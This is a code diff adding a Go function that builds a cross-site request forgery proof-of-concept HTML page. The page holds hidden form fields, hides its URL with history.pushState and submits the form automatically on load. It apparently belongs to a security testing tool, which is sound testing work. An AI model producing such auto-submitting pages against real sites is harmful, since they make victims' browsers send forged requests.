@@ -0,0 +1,35 @@
+package csrf
+
+import (
+    "html"
+    "strings"
+)
+
+/**
+   @author yhy
+   @since 2024/6/28
+   @desc 生成 CSRF 的 PoC 页面，打开后自动提交表单
+**/
+
+type field struct {
+    name  string
+    value string
+}
+
+// poc enctype 为空时使用默认的 application/x-www-form-urlencoded
+func poc(action, enctype string, fields []field) string {
+    var b strings.Builder
+    b.WriteString("<html>\n  <body>\n")
+    b.WriteString(`    <form action="` + html.EscapeString(action) + `" method="POST"`)
+    if enctype != "" {
+        b.WriteString(` enctype="` + enctype + `"`)
+    }
+    b.WriteString(">\n")
+    for _, f := range fields {
+        b.WriteString(`      <input type="hidden" name="` + html.EscapeString(f.name) + `" value="` + html.EscapeString(f.value) + `" />` + "\n")
+    }
+    b.WriteString("    </form>\n")
+    b.WriteString("    <script>\n      history.pushState('', '', '/');\n      document.forms[0].submit();\n    </script>\n")
+    b.WriteString("  </body>\n</html>\n")
+    return b.String()
+}